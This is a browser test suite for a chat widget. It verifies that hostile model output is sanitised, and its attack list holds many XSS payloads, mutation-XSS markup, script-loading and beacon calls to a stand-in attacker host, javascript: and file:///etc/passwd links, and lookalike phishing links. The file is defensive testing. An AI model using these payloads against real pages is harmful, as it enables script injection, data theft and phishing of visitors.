import type { Locator, Page, Request } from 'playwright'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { createAgent, scriptTag, type TestAgent } from '../../support/agent.ts'
import { desktop, watch, type Site, type Watched } from '../../support/browser/browser.ts'
import { longestTasks } from '../../support/browser/longest-task.ts'
import { rememberedConversation } from '../../support/browser/remembered.ts'
import { chunk, streamOf, type ModelServer } from '../../support/peers/model-server.ts'
import { isLong } from '../../support/seed.ts'
import type { TestServer } from '../../support/server.ts'
import { startTempter, type Tempter } from '../../support/peers/tempter.ts'
import { startStage, type Stage } from '../../support/browser/stage.ts'

/* What a hostile model can do to a visitor, his page and its host: nothing. In the built widget, in a real Chromium. */

let stage: Stage
let model: ModelServer
let server: TestServer
let site: Site
let agent: TestAgent
let tempter: Tempter
let page: Page
let seen: Watched

beforeAll(async () => {
  stage = await startStage()
  ;({ model, server, site } = stage)
  tempter = await startTempter()
  // One for all tests: a new one takes more than most of their answers.
  page = await stage.browser.newPage(desktop)
  seen = watch(page)
})
afterAll(async () => {
  await stage.stop()
  await tempter.stop()
})
beforeEach(() => (tempter.requests.length = 0))

/** Goes to a page with a new agent, so without a conversation. Without a policy it forbids nothing, so that whatever is tried would come through. */
async function begin(policy?: string): Promise<void> {
  await page.unrouteAll({ behavior: 'ignoreErrors' })
  agent = await createAgent(server)
  // All of these tests are one address, that asks more often in a minute than a visitor may.
  const limits = { messagesPerMinutePerAddress: 10_000 }
  await server.call('PATCH', `/v1/agents/${agent.id}/embed`, { body: { limits } })
  site.html = `<!doctype html><title>Site</title><h1 id="title">A site</h1>${scriptTag(server, agent)}`
  site.headers = policy === undefined ? {} : { 'Content-Security-Policy': policy }
  seen.errors.length = 0
  seen.hosts.clear()
  await page.goto(site.url)
}

const end = 'Here the answer ends.'
const log = () => page.locator('foyer-chat [role="log"]')
const answer = () => log().locator('.of-host .text').last()

async function ask(text = 'Go on'): Promise<void> {
  const composer = page.locator('foyer-chat textarea')
  if (!(await composer.isVisible())) await page.locator('foyer-chat .launcher').click()
  // Until the answer before is whole, Enter sends nothing.
  await page.locator('foyer-chat [part~="send"]').waitFor()
  await composer.fill(text)
  await composer.press('Enter')
}

/** Streams an answer in pieces of at most so many characters, and waits until it is finished and its end is on screen. */
async function hear(text: string, most = 40): Promise<void> {
  heard += 1
  const own = `${end} ${heard}.`
  model.script = streamOf(`${text}\n\n${own}`.match(new RegExp(`[^]{1,${most}}`, 'gu')) ?? [])
  await ask()
  // Of this one, and not how many there are: beside a long answer the earlier ones are out of the DOM.
  const turn = log().locator('.turn.of-host').last()
  await expect.poll(async () => (await turn.textContent())?.includes(own)).toBe(true)
  await turn.locator('.actions').waitFor()
  // Plain before what renders it was there, and rendered over several frames after that.
  await turn.locator('.text:not(.plain)', { hasText: own }).waitFor()
}
/** How many answers there were. */
let heard = 0

/** Everything in the answer that a model must not be able to put there. */
const forbidden = `script, style, form, input, textarea, select, svg, math, iframe, object, embed, video, audio, source, link, meta, base,
  [id], [name], [style], [srcset], [action], [formaction], [onerror], [onclick], [onload], [onmouseover], [onfocus], [ontoggle]`

const attacks: [what: string, text: () => string][] = [
  ['scripts', () => `<script>hacked = 'script'</script>\n\ntext <script>hacked = 'inline'</script> more`],
  [
    'a script of another host',
    () => `<script src="${tempter.url}/a.js"></script><link rel=preload as=script href="${tempter.url}/b.js">`,
  ],
  [
    'handlers',
    () =>
      `<img src=x onerror="hacked = 1"> <b onclick="hacked = 1" onmouseover="hacked = 1" tabindex=0>b</b> <details open ontoggle="hacked = 1">x</details>`,
  ],
  [
    'frames',
    () =>
      `<iframe src="${tempter.url}/frame"></iframe><iframe srcdoc="<script>top.hacked = 1</script>"></iframe><object data="${tempter.url}/o"></object><embed src="${tempter.url}/e">`,
  ],
  ['redirects', () => `<meta http-equiv=refresh content="0;url=${tempter.url}/meta"><base href="${tempter.url}/">`],
  [
    'SVG',
    () =>
      `<svg onload="hacked = 1"><image href="${tempter.url}/s.gif" /><script>hacked = 1</script><a xlink:href="javascript:hacked=1"><text>x</text></a><animate onbegin="hacked = 1" attributeName=x dur=1s></svg>`,
  ],
  [
    'MathML',
    () =>
      `<math><mtext><table><mglyph><style><img src onerror="hacked = 1"></style></mglyph></table></mtext><maction actiontype=statusline xlink:href="javascript:hacked=1">x</maction></math>`,
  ],
  [
    'HTML that changes when it is parsed again',
    () =>
      `<noscript><p title="</noscript><img src=x onerror=hacked=1>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>`,
  ],
  [
    'media',
    () =>
      `<img srcset="${tempter.url}/set.gif 1x"><video src="${tempter.url}/v" poster="${tempter.url}/p.gif" autoplay></video><audio src="${tempter.url}/a" autoplay></audio><picture><source srcset="${tempter.url}/p2.gif"><img></picture>`,
  ],
  [
    'styles',
    () =>
      `<style>*{background:url(${tempter.url}/css.gif)}@import url(${tempter.url}/i.css)</style><p style="background:url(${tempter.url}/st.gif);position:fixed;inset:0;z-index:9999">over</p>`,
  ],
  [
    'ids, names and classes',
    () =>
      `<p id=title name=cookie class=launcher part=launcher slot=x>x</p><a name=x id=location href="https://a.test">z</a><img name=body id=foyer>`,
  ],
  [
    'forms',
    () =>
      `<form action="${tempter.url}/form" method=post><input name=card autofocus><textarea>t</textarea><button formaction="${tempter.url}/b">Pay</button></form>`,
  ],
  ['images in Markdown', () => `![one](${tempter.url}/one.gif) ![two][ref]\n\n[ref]: ${tempter.url}/two.gif "t"`],
  [
    'code that is HTML',
    () =>
      `\`<img src=x onerror=hacked=1>\`\n\n    <script>hacked = 1</script>\n\n\`\`\`html\n<img src=${tempter.url}/code.gif onerror=hacked=1>\n\`\`\``,
  ],
  [
    'placeholders of the renderer',
    () => `<b title="0">**one**</b> <b title="1"></b> <i title="99">x</i> <script title="1">hacked = 1</script>`,
  ],
]

/** Gives everything in an answer that may wait for a pointer or the focus both, and finds nothing that did. `what` is in it. */
async function expectHarmless(text: Locator, what?: string): Promise<void> {
  await expect.poll(() => text.locator(forbidden).count()).toBe(0)
  await text.locator('b, i, p, code, td').evaluateAll(provoke)
  const strange = await text.evaluate((within) =>
    [...within.querySelectorAll('*')]
      .flatMap((each) => [...each.attributes].map(({ name, value }) => `${name}=${value}`))
      .filter((attribute) =>
        /^on|^(?:id|name|style|slot)=|^(?:class|part)=(?!md-)|=\s*(?:javascript|data|vbscript):/i.test(attribute),
      ),
  )
  expect(strange, what).toEqual([])
  expect(await page.evaluate(() => 'hacked' in globalThis), what).toBe(false)
  expect(tempter.requests, what).toEqual([])
  expect([...seen.hosts].toSorted(), what).toEqual([new URL(server.url).host, new URL(site.url).host].toSorted())
  expect(page.url(), what).toBe(`${site.url}/`)
  expect(await page.title(), what).toBe('Site')
}

/** Runs in the page: what a visitor's pointer and keyboard may do to each element. */
function provoke(elements: Element[]): void {
  const init = { bubbles: true, cancelable: true, composed: true }
  for (const each of elements) {
    each.dispatchEvent(new MouseEvent('mouseover', init))
    each.dispatchEvent(new FocusEvent('focus', init))
    each.dispatchEvent(new MouseEvent('click', init))
  }
}

describe('an answer runs nothing, asks nobody and moves nothing', () => {
  const talks: [what: string, talk: typeof attacks][] = isLong
    ? attacks.map((attack) => [attack[0], [attack]])
    : [['each of them, one after the other', attacks]]
  test.each(talks)('with %s, and when it comes back as history', async (_, talk) => {
    await begin()
    for (const [what, text] of talk) {
      await hear(text())
      await expectHarmless(answer(), what)
    }
    await page.reload()
    await page.locator('foyer-chat .launcher').click()
    const answers = log().locator('.of-host .text:not(.plain)', { hasText: end })
    await expect.poll(() => answers.count()).toBe(talk.length)
    for (const [at, [what]] of talk.entries()) await expectHarmless(answers.nth(at), `${what}, as history`)
  })

  test('with a handler of any name that a browser knows, on any element', async () => {
    await begin()
    const names = await page.evaluate(namesOfHandlers)
    expect(names).toContain('onfullscreenchange')
    const attributes = names.map((name) => `${name}="hacked = '${name}'"`)
    // One by one, since `<b onstart=a>` alone ended Chromium 156 in its own sanitizer; then all of them on an element each.
    const elements = 'b a img p table li marquee svg animate details video body dialog input form template'.split(' ')
    const one = attributes.map((attribute) => `<b ${attribute}>x</b>`).join(' ')
    await hear(`${one}\n\n${elements.map((name) => `<${name} ${attributes.join(' ')}>y</${name}>`).join('\n\n')}`)
    await expect.poll(() => answer().locator('b').count()).toBeGreaterThanOrEqual(names.length)
    await expectHarmless(answer().locator('p').first())
  })
})

/** Runs in the page: the names of all handlers that an element or the animation of one can have there, and old ones that parsers may know. */
function namesOfHandlers(): string[] {
  const old =
    'onstart onfinish onbounce onbegin onend onrepeat onshow onactivate onbeforeprint onreadystatechange'.split(' ')
  const owners = Object.getOwnPropertyNames(window).flatMap((name) => {
    const owner: unknown = Reflect.get(window, name)
    return typeof owner === 'function' && typeof owner.prototype === 'object' ? [owner.prototype as object] : []
  })
  const known = [window, ...owners].flatMap((owner) => Object.getOwnPropertyNames(owner ?? {}))
  return [...new Set([...old, ...known.filter((name) => /^on[a-z]+$/.test(name))])]
}

describe('on a page that forbids nothing', () => {
  beforeAll(() => begin())

  test('nothing that an answer holds is positioned, leaves the panel or covers the page', async () => {
    const before = await page.locator('body > h1').evaluate((title) => getComputedStyle(title).cssText)
    await hear(
      `<p style="position:fixed;inset:0;z-index:2147483647;background:red">x</p>\n\n<h1 class=panel style="position:absolute">y</h1>\n\n${'wide'.repeat(2000)}\n\n| ${'cell | '.repeat(60)}\n|${'---|'.repeat(60)}`,
    )
    const outside = await answer().evaluate((text) => {
      const panel = text.closest('.panel')?.getBoundingClientRect()
      const positions = [...text.querySelectorAll('*')].map((each) => getComputedStyle(each).position)
      return {
        isClipped: panel !== undefined && panel.right <= innerWidth && panel.width <= 600,
        positions: [...new Set(positions)],
      }
    })
    expect(outside.isClipped).toBe(true)
    expect(outside.positions.filter((position) => position === 'fixed' || position === 'absolute')).toEqual([])
    const onTop = await page.evaluate(() => document.elementFromPoint(200, 200)?.closest('foyer-chat') ?? null)
    expect(onTop).toBeNull()
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true)
    expect(await page.locator('body > h1').evaluate((title) => getComputedStyle(title).cssText)).toBe(before)
  })

  describe('links', () => {
    test('open in a new tab that knows nothing of the page it came from', async () => {
      await hear(`Read [the recipe](${tempter.url}/recipe).`)
      const opened = page.context().waitForEvent('page')
      await answer().locator('a').click()
      const tab = await opened
      await tab.waitForLoadState()
      expect(await tab.evaluate(() => ({ opener: opener as unknown, referrer: document.referrer }))).toEqual({
        opener: null,
        referrer: '',
      })
      expect(tempter.requests.map(({ path, referrer }) => ({ path, referrer }))).toContainEqual({
        path: '/recipe',
        referrer: undefined,
      })
      await tab.close()
      expect(page.url()).toBe(`${site.url}/`)
    })

    test('that are relative, or run something, are text', async () => {
      await hear(
        '[a](/account) [b](#top) [c](javascript:hacked=1) [d](data:text/html,x) [e](//evil.test) [f](file:///etc/passwd) [g](blob:x) <a href="java&#10;script:hacked=1">h</a> [i](ja&#x0A;vascript:hacked=1)',
      )
      await expect.poll(() => answer().textContent()).toContain('a b c d e f g h i')
      expect(await answer().locator('a').count()).toBe(0)
    })

    const deceits: [what: string, markdown: string, text: string][] = [
      ['another host', '[bank.test](https://evil.test/x)', 'bank.test (evil.test)'],
      ['another address', '[https://bank.test/login](https://evil.test)', 'https://bank.test/login (evil.test)'],
      ['a user name that looks like a host', '[bank.test](https://bank.test@evil.test/)', 'bank.test (evil.test)'],
      ['a host with a hidden character', '[ba\u200Bnk\u2060.test](https://evil.test)', 'bank.test (evil.test)'],
      ['a host written backwards', '[\u202Etset.knab\u202C](https://bank.test)', 'tset.knab (bank.test)'],
      ['a host by names of characters', '[bank&#46;test](https://evil.test)', 'bank.test (evil.test)'],
      ['letters of another alphabet', '[b\u0430nk.test](https://b\u0430nk.test)', 'b\u0430nk.test (xn--bnk-6cd.test)'],
      ['full-width letters', '[\uFF42ank.test](https://evil.test)', '\uFF42ank.test (evil.test)'],
      ['nothing at all', '[\u200B](https://evil.test/x)', 'evil.test'],
      ['another host in HTML', '<a href="https://evil.test">bank.test</a>', 'bank.test (evil.test)'],
      ['a mail address', '[help@bank.test](mailto:x@evil.test)', 'help@bank.test (x@evil.test)'],
    ]
    test('whose text names something else show where they lead', async () => {
      await hear(deceits.map(([, markdown]) => `- ${markdown}`).join('\n'))
      await expect
        .poll(() =>
          answer()
            .locator('li')
            .evaluateAll((items) => items.map((item) => item.textContent?.trim())),
        )
        .toEqual(deceits.map(([, , text]) => text))
      expect(await answer().locator('li a').count()).toBe(deceits.length)
    })

    test('are none while their address is still being written', async () => {
      let go: () => void = () => undefined
      model.script = (response) => {
        response.writeHead(200, { 'Content-Type': 'text/event-stream' })
        response.write(chunk('See https://bank.test'))
        go = () => response.end(`${chunk('.evil.test/now and go.')}${chunk('', 'stop')}data: [DONE]\n\n`)
      }
      await ask()
      await expect.poll(() => answer().textContent()).toContain('See https://bank.test')
      expect(await answer().locator('a').count()).toBe(0)
      go()
      await expect.poll(() => answer().locator('a').getAttribute('href')).toBe('https://bank.test.evil.test/now')
    })
  })

  describe('text that turns or hides', () => {
    test('reads in the order in which it is written', async () => {
      await hear('Send \u202Eoitibmna\u202C here, **\u202Dnow\u202C**, and &#x202E;there.')
      await expect.poll(() => answer().textContent()).toContain('there')
      expect(await answer().textContent()).not.toMatch(/[\u202A-\u202E]/)
      expect(await answer().textContent()).toContain('Send oitibmna here, now, and there.')
    })

    test('shows each of its controls in code', async () => {
      await hear('```js\nif (isAdmin\u202E \u2066// check\u2069) {}\n```')
      expect(await answer().locator('pre').textContent()).toContain('isAdmin⟦U+202E⟧ ⟦U+2066⟧// check⟦U+2069⟧')
    })
  })

  describe('an answer from right to left', () => {
    const arabic = `أسعارنا اليوم.

| الصنف | السعر |
|---|---|
| خبز | 5 |

> اقتباس

- أول

- ثان

<table><tr><td>شاي</td></tr></table>

And a line in English.`

    test('has its tables, its quotes and its bullets at the right, and what is English in it at the left', async () => {
      await hear(arabic)
      await expect.poll(() => answer().locator('td').count()).toBe(3)
      const sides = await answer().evaluate((text) => {
        const find = (selector: string) => [...text.querySelectorAll<HTMLElement>(selector)]
        const outer = text.getBoundingClientRect()
        const words = document.createRange()
        words.selectNodeContents(find('p').at(-1) ?? text)
        const word = (element: Element) => getComputedStyle(element).direction
        return {
          tables: find('table').map((table) => Math.round(outer.right - table.getBoundingClientRect().right)),
          quote: find('blockquote').map((quote) => getComputedStyle(quote).borderRightWidth),
          list: find('ul').map(word),
          english: Math.round(words.getBoundingClientRect().left - outer.left),
        }
      })
      expect(sides).toEqual({ tables: [0, 0], quote: ['3px'], list: ['rtl'], english: 0 })
    })

    test('has the digits of a telephone number in their order', async () => {
      await hear('اتصل بنا: [+966 55 123 4098](tel:+966551234098) · تواصل معنا')
      const link = answer().locator('a')
      await expect.poll(() => link.count()).toBe(1)
      const [first, last] = await link.evaluate((each) => {
        const text = each.firstChild ?? each
        const leftOf = (at: number) => {
          const range = document.createRange()
          range.setStart(text, at)
          range.setEnd(text, at + 1)
          return range.getBoundingClientRect().left
        }
        return [leftOf(1), leftOf(15)]
      })
      expect(first).toBeLessThan(last ?? 0)
    })
  })

  describe('images', () => {
    test('of another host are not asked for until the visitor does, and then without saying from where', async () => {
      await hear(`Look: ![a cat](${tempter.url}/cat.gif?who=you)\n\n<img src="${tempter.url}/html.gif" alt="a dog">`)
      const buttons = answer().locator('button.md-load')
      await expect.poll(() => buttons.count()).toBe(2)
      expect(await answer().locator('img').count()).toBe(0)
      expect(await buttons.first().textContent()).toContain(tempter.host)
      expect(await buttons.first().textContent()).toContain('a cat')
      expect(tempter.requests).toEqual([])
      await buttons.first().click()
      await expect
        .poll(() =>
          answer()
            .locator('img')
            .evaluateAll((images) => images.map((image) => image instanceof HTMLImageElement && image.naturalWidth)),
        )
        .toEqual([1])
      expect(tempter.requests).toEqual([{ path: '/cat.gif?who=you', referrer: undefined }])
      expect(await buttons.count()).toBe(1)
    })

    test('in a link stand beside it, so that a click on one is not a click on the other', async () => {
      await hear(`[![offer](${tempter.url}/offer.gif)](https://evil.test/go)`)
      expect(await answer().locator('a button').count()).toBe(0)
      expect(await answer().locator('a').textContent()).toContain('offer')
      expect(await answer().locator('button.md-load').count()).toBe(1)
      expect(tempter.requests).toEqual([])
    })
  })

  describe('code', () => {
    test('is text as long as its fence is open, and when it is never closed', async () => {
      let go: () => void = () => undefined
      model.script = (response) => {
        response.writeHead(200, { 'Content-Type': 'text/event-stream' })
        response.write(
          chunk(
            `Run:\n\n\`\`\`html\n<img src="${tempter.url}/x.gif" onerror="hacked = 1">\n**not bold** [no](https://link.test)`,
          ),
        )
        go = () => response.end(`${chunk('\n<b>still code</b>')}${chunk('', 'stop')}data: [DONE]\n\n`)
      }
      await ask()
      await expect.poll(() => answer().locator('pre').textContent()).toContain('**not bold**')
      go()
      await expect.poll(() => answer().locator('pre').textContent()).toContain('<b>still code</b>')
      await expect.poll(() => log().locator('.actions').count()).toBeGreaterThan(0)
      expect(await answer().locator('pre').textContent()).toBe(
        `<img src="${tempter.url}/x.gif" onerror="hacked = 1">\n**not bold** [no](https://link.test)\n<b>still code</b>`,
      )
      expect(await answer().locator('img, strong, a, b, button.md-load').count()).toBe(0)
      expect(tempter.requests).toEqual([])
    })
  })

  test('what stands between tags that swallow it is shown', async () => {
    await hear('a <textarea>**one**</textarea> b <select><option>**two**</option></select> c <table>**three**</table>')
    await expect.poll(() => answer().locator('strong').allTextContents()).toEqual(['one', 'two', 'three'])
    expect(await answer().textContent()).not.toContain('<')
  })
})

test('the sanitizer is fetched only for an answer with HTML, the highlighter only for code in a language it knows', async () => {
  const requested: string[] = []
  const note = (request: Request) => void requested.push(request.url())
  const asked = (name: string) => requested.filter((url) => new RegExp(`/${name}-[\\w-]+\\.js`).test(url)).length
  page.on('request', note)
  await begin()
  await hear(
    '**Markdown** with a [link](https://a.test), 1 < 2 &amp; a table:\n\n| a |\n|---|\n| b<br>c |\n\n```\nplain\n```\n\n```brainfuck\n+++\n```',
  )
  expect([asked('html-to-elements'), asked('highlight')]).toEqual([0, 0])
  await hear('```js\nconst a = 1\n```')
  await expect.poll(() => answer().locator('code span.md-keyword').count()).toBeGreaterThan(0)
  expect([asked('html-to-elements'), asked('highlight')]).toEqual([0, 1])
  await hear('H<sub>2</sub>O')
  await expect.poll(() => answer().locator('sub').textContent()).toBe('2')
  expect([asked('html-to-elements'), asked('highlight')]).toEqual([1, 1])
  page.off('request', note)
})

describe('HTML in an answer', () => {
  const mixed = [
    'Press <b>Enter *twice*</b>, then <a href="https://a.test">go</a>.',
    '<p>A paragraph<br>of **HTML**</p>',
    '- one<sup>1</sup>\n- two\n- <i>three</i>',
    '| a | b |\n|---|---|\n| x<sub>1</sub> | **y** |\n| z | <del>w</del> |',
    'Caf&eacute; costs 5&nbsp;&euro;, [see][ref] <b>below</b>.',
    '[ref]: https://ref.test',
  ].join('\n\n')

  /** Holds back the chunk that reads HTML until it is let go. */
  async function holdCleaner(): Promise<() => Promise<void>> {
    let letGo: () => void = () => undefined
    const held = new Promise<void>((resolve) => (letGo = resolve))
    await page.route(/\/html-to-elements-[\w-]+\.js/, async (route) => {
      await held
      await route.continue()
    })
    return async () => {
      letGo()
      await expect.poll(() => answer().locator('b').count()).toBeGreaterThan(0)
    }
  }

  /** Without the number of the answer, which stands at its end. */
  const shown = (which = answer()) =>
    which.evaluate((text) => text.innerHTML.replaceAll('<!---->', '').replace(/(ends\.) \d+\./, '$1'))

  test('shows the same whether its reader was there before it, comes after it, or in its middle', async () => {
    await begin()
    const letGo = await holdCleaner()
    await hear(mixed)
    expect(await answer().locator('b, sup, sub').count()).toBe(0)
    const early = await answer().textContent()
    expect(early).not.toMatch(/<|>/)
    expect(early).toContain('twice')
    expect(await answer().locator('li').count()).toBe(3)
    await letGo()
    await hear(mixed)
    for (const name of ['b', 'sup', 'sub', 'i', 'del', 'em', 'a[href="https://ref.test/"]'])
      await answer().locator(name).first().waitFor({ state: 'attached' })
    expect(await answer().textContent()).toContain('Café costs 5\u00A0€')
    const before = await shown()
    // The greeting is the first of them.
    await expect.poll(() => shown(log().locator('.of-host .text').nth(1))).toBe(before)

    await page.unrouteAll()
    const letGoNow = await holdCleaner()
    await page.reload()
    await page.locator('foyer-chat .launcher').click()
    await expect.poll(() => log().locator('.actions').count()).toBe(2)
    let goOn: () => void = () => undefined
    const half = mixed.indexOf('two')
    model.script = (response) => {
      response.writeHead(200, { 'Content-Type': 'text/event-stream' })
      response.write(chunk(mixed.slice(0, half)))
      goOn = () => response.end(`${chunk(`${mixed.slice(half)}\n\n${end}`)}${chunk('', 'stop')}data: [DONE]\n\n`)
    }
    await ask()
    await expect.poll(() => log().locator('.turn.of-host').count()).toBe(3)
    await expect.poll(() => answer().locator('li').count()).toBe(1)
    await letGoNow()
    goOn()
    await expect.poll(() => answer().textContent()).toContain(end)
    await expect.poll(() => shown()).toBe(before)
  })

  test('is shown as its text where its reader cannot be fetched', async () => {
    await begin()
    await page.route(/\/html-to-elements-[\w-]+\.js/, (route) => route.abort())
    await hear(mixed)
    await expect.poll(() => answer().textContent()).toContain('Press <b>Enter twice</b>')
    await expect.poll(() => answer().textContent()).toContain('Caf&eacute;')
    expect(await answer().locator('em').textContent()).toBe('twice')
  })
})

describe('on a page with a strict policy', () => {
  const policy = (more: string) =>
    `default-src 'none'; script-src ${server.url}; connect-src ${server.url}; img-src ${server.url}; font-src ${server.url}; require-trusted-types-for 'script'${more}`
  const text = () =>
    `**Bold** and <b onclick="hacked=1">HTML</b> and <img src=x/onerror=hacked=1 ONERROR = 'hacked=1'>\n\n\`\`\`js\nconst a = 1\n\`\`\`\n\n![p](${tempter.url}/p.gif)`

  test.each([
    ['', ''],
    [' that names who may make HTML, DOMPurify among them,', '; trusted-types dompurify'],
  ])('%s answers are whole and colored, and nothing offends it', async (_, more) => {
    await begin(policy(more))
    await hear(text())
    await expect.poll(() => answer().locator('b').textContent()).toBe('HTML')
    expect(await answer().locator('strong').textContent()).toBe('Bold')
    await expect.poll(() => answer().locator('.md-keyword').textContent()).toBe('const')
    expect(await answer().locator(forbidden).count()).toBe(0)
    expect(seen.errors).toEqual([])
  })

  test('that lets nobody make HTML, HTML is shown as its text and the rest as ever', async () => {
    await begin(policy("; trusted-types 'none'"))
    await hear(text())
    await expect.poll(() => answer().textContent()).toContain('>HTML</b> and <img')
    expect(await answer().locator('strong').textContent()).toBe('Bold')
    expect(await answer().locator(forbidden).count()).toBe(0)
    // It takes an attempt to find that out; none follows.
    await expect.poll(() => seen.errors.length).toBeGreaterThan(0)
    const { length } = seen.errors
    await hear(`${text()} again`)
    await expect.poll(() => answer().textContent()).toContain('>HTML</b> and <img')
    expect(seen.errors.length).toBe(length)
  })

  test('what an answer says of styles and handlers is not reported to the page, in whatever way it is written', async () => {
    await begin(policy("; style-src 'none'; base-uri 'none'"))
    await page.evaluate(() => {
      const reports: string[] = []
      Object.assign(globalThis, { reports })
      document.addEventListener('securitypolicyviolation', (event) => reports.push(event.effectiveDirective))
    })
    const inline = [
      '<i onclick=a>1</i>',
      '<i\nONCLICK = "a>b" title=t>2</i>',
      `<i title='>' onclick='a"b'>3</i>`,
      '<i/onclick=a>4</i>',
      '<i title="x"onclick=a>5</i>',
      '<i = onclick=a>6</i>',
      '<i style="color: red">7</i>',
      '<p>8<style>p { color: red }</style></p>',
      '<svg onload=a><path d=x /></svg><i>9</i>',
      '<base href=x><link rel=stylesheet href=x><meta http-equiv=refresh content=1><i>10</i>',
      '<a href="https://a.test/?onclick=x" onclick=a>11</a>',
      '<i title="onclick=a">onclick=a < b</i>',
    ]
    await hear(`${inline.join(' ')} <b>all</b>`)
    await expect.poll(() => answer().locator('b').textContent()).toBe('all')
    expect(await answer().textContent()).toMatch(/1.*2.*3.*4.*5.*6.*7.*8.*9.*10.*11.*onclick=a < b/s)
    expect(await answer().textContent()).not.toContain('color')
    expect(await answer().locator('a').getAttribute('href')).toBe('https://a.test/?onclick=x')
    expect(await page.evaluate('reports')).toEqual([])
    expect(seen.errors).toEqual([])
  })
})

const long = (part: string, length: number) => part.repeat(Math.ceil(length / part.length)).slice(0, length)

describe('a page stays responsive, no task of its main thread taking more than 200 ms of CPU time, while an answer holds', () => {
  const costly: [what: string, text: string][] = [
    ['200 kB of Markdown', long('Some **bold** words, a [link](https://a.test), `code`.\n\n- one\n- two\n\n', 199_000)],
    ['200 kB in one paragraph', long('word *and* word ', 199_000)],
    ['40 kB of HTML', long('<p>a <b>b</b> <i>c</i> <a href="https://a.test">d</a></p>\n\n', 40_000)],
    ['quotes nested 5,000 deep', `${'>'.repeat(5000)} x`],
    ['lists nested 400 deep', Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')],
    ['a row of 20,000 cells', `${'|a'.repeat(10_000)}|\n${'|-'.repeat(10_000)}|`],
    ['200 kB of code', `\`\`\`js\n${long('const a = `b` // c\n', 199_000)}\n\`\`\``],
    ['code that is colored', `\`\`\`js\n${long('const a = `b` // c\n', 19_000)}\n\`\`\``],
  ]
  /** The same patterns as costly-answers.test.ts has, which shows them to the renderer alone. */
  const repeated: [what: string, text: string][] = [
    ['one list of 40 kB', long('- item with **text**\n', 40_000)],
    ['one table of 40 kB', `| a | b |\n|---|---|\n${long('| x | **y** |\n', 40_000)}`],
    ['HTML that is never closed', long('<b><i>', 30_000)],
    ['open brackets', '['.repeat(40_000)],
    ['stars', long('*a **b ', 40_000)],
    ['backticks', long('`a ``b ', 40_000)],
    ['40 kB of names of characters', long('&eacute;&amp;&bogus; ', 40_000)],
  ]
  test('any of these', async () => {
    await begin()
    await hear('Ready.')
    const startOver = async () => {
      await page.evaluate(() => (globalThis as unknown as { Foyer: { reset(): void } }).Foyer.reset())
      await expect.poll(() => log().locator('.of-guest').count()).toBe(0)
    }
    const shapes = isLong ? [...costly, ...repeated] : costly
    // One recording for all of them: to begin and to read one takes longer than an answer.
    const tasks = await longestTasks(
      page,
      // Longer pieces than others: what counts is the length of the whole.
      shapes.flatMap(([, text]) => [startOver, () => hear(text, 200)]),
    )
    const slow = shapes.flatMap(([what], at) => ((tasks[at * 2 + 1] ?? Infinity) > 200 ? [what] : []))
    expect(slow).toEqual([])
  })
})

test('a conversation of eight long answers, opened again, holds the main thread at no time as long as four of them would', async () => {
  const text = long('Some **bold** words, a [link](https://a.test), `code`.\n\n- one\n- two\n\n', 39_000)
  await begin()
  const remember = (count: number) => {
    const ends = Array.from({ length: count }, (_, place) => `**The end of ${place}.**`)
    const messages = ends.map((last) => ({ messageType: 'assistant' as const, message: `${text}\n\n${last}` }))
    return rememberedConversation(server, agent, messages)
  }
  const [one, eight] = [await remember(1), await remember(8)]
  const comeBackTo = (remembered: typeof one) => async () => {
    await page.evaluate(([name, value]) => localStorage.setItem(name, value), remembered)
    await page.reload()
  }
  const open = async () => {
    await page.locator('foyer-chat .launcher').click()
    // As text: where three blocks took long, as on a busy machine, the rest stays without its marks.
    await log().locator('.text:not(.plain)', { hasText: 'The end' }).last().waitFor()
    await expect.poll(() => log().locator('.text:empty').count()).toBe(0)
  }
  // Beside a conversation of a single answer, in one recording: a busy machine slows down both.
  const [, single = 0, , all = Infinity] = await longestTasks(page, [comeBackTo(one), open, comeBackTo(eight), open])
  expect(all).toBeLessThan(single * 4)
})
